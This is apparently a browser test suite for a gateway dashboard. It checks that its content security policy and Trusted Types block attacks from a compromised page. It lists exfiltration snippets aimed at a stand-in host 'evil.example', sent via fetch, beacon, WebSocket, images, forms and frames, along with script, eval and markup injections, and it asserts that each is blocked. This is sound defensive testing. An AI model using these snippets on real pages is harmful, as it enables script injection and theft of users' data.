// Attacks from inside a compromised page of the gateway, which the content security policy blocks.

import assert from "node:assert/strict";
import { after, test } from "node:test";

import { until } from "../harness/waiting.mjs";
import { launch } from "./harness/browser.mjs";
import { startGatewayDashboard } from "./harness/dashboard.mjs";
import { enterServer } from "./harness/sites.mjs";
import * as ui from "./harness/ui.mjs";

const EVIL = "https://evil.example";

/** Attacks that run in the dashboard's own page, each with the directive that blocks it. */
const STOPPED = {
  "an inline script": ["require-trusted-types-for", () => add("script", { text: "window.broken = true" })],
  "a handler in markup": ["require-trusted-types-for", () => add("p").setAttribute("onclick", "window.broken = true")],
  "eval": ["require-trusted-types-for", () => setTimeout(() => window.eval("window.broken = true"))],
  "a style in markup": ["style-src-attr", () => add("p").setAttribute("style", "position: fixed")],
  "a style sheet": ["style-src-elem", () => add("style", { textContent: "body { display: none }" })],
  "an image from elsewhere": ["img-src", (evil) => add("img", { src: `${evil}/?stolen` })],
  "a font from elsewhere": ["font-src", (evil) => new FontFace("x", `url(${evil}/x.woff2)`).load()],
  "a film from elsewhere": ["media-src", (evil) => add("video", { src: `${evil}/?stolen` })],
  "a call elsewhere": ["connect-src", (evil) => fetch(`${evil}/?stolen`)],
  "a call to another port": ["connect-src", () => fetch("http://127.0.0.1:9/?stolen")],
  "a beacon": ["connect-src", (evil) => navigator.sendBeacon(`${evil}/?stolen`)],
  "a connection that stays": ["connect-src", (evil) => new WebSocket(evil.replace("https", "wss"))],
  "fetching ahead from elsewhere": ["default-src", (evil) => add("link", { rel: "prefetch", href: `${evil}/?stolen` })],
  "a frame": ["frame-src", (evil) => add("iframe", { src: evil })],
  "a worker of its own text": ["worker-src", () => new Worker(URL.createObjectURL(new Blob(["postMessage(1)"])))],
  "another base": ["base-uri", (evil) => add("base", { href: evil })],
  "a form to elsewhere": ["form-action", (evil) => add("form", { action: evil, method: "post" }).submit()],
};

/** Attacks that Trusted Types block earlier. */
const REFUSED = {
  "a script from elsewhere": (evil) => add("script", { src: `${evil}/x.js` }),
  "an object from elsewhere": (evil) => add("object", { data: `${evil}/x.swf` }),
  "markup that runs": () => (add("p").innerHTML = "<img src=x onerror='window.broken = true'>"),
};

const browser = await launch();
const server = await startGatewayDashboard();
after(() => server.stop());

/** Records policy violations, and adds elements as a script does. */
function prepare() {
  window.stopped = [];
  addEventListener("securitypolicyviolation", ({ effectiveDirective }) => window.stopped.push(effectiveDirective));
  window.add = (name, properties = {}) => {
    const element = Object.assign(document.createElement(name), properties);
    document.head.append(element);
    return element;
  };
}

/** Number of violations of a directive that the browser has reported. */
function reported(directive) {
  return server.log().split("\n").filter((line) => line.includes(`directive="${directive}"`)).length;
}

test("a compromised page cannot send data anywhere", async () => {
  const context = await browser.newContext();
  after(() => context.close());
  await context.addInitScript(prepare);
  const page = await context.newPage();
  const left = [];
  page.on("requestfinished", (request) => left.push(new URL(request.url()).origin));
  await enterServer(server)(page);
  await ui.loadedSid(page);

  const expected = new Map();
  for (const [what, [directive, act]] of Object.entries(STOPPED)) {
    await page.evaluate(() => (window.stopped.length = 0));
    // Some attacks also throw.
    await page.evaluate(act, EVIL).catch(() => {});
    const isStopped = page.waitForFunction((directive) => window.stopped.includes(directive), directive, { timeout: 5_000 });
    await isStopped.catch(() => assert.fail(`${what} is not stopped by ${directive}`));
    expected.set(directive, (expected.get(directive) ?? 0) + 1);
  }
  for (const [what, act] of Object.entries(REFUSED)) {
    await assert.rejects(page.evaluate(act, EVIL), /was refused/, what);
  }
  assert.equal(await page.evaluate(() => window.broken), undefined);
  assert.deepEqual([...new Set(left)], [new URL(server.address).origin]);
  // The gateway logs each report, without the stolen data.
  for (const [directive, count] of expected) {
    await until(() => reported(directive) >= count);
  }
  assert.doesNotMatch(server.log(), /stolen/);
});
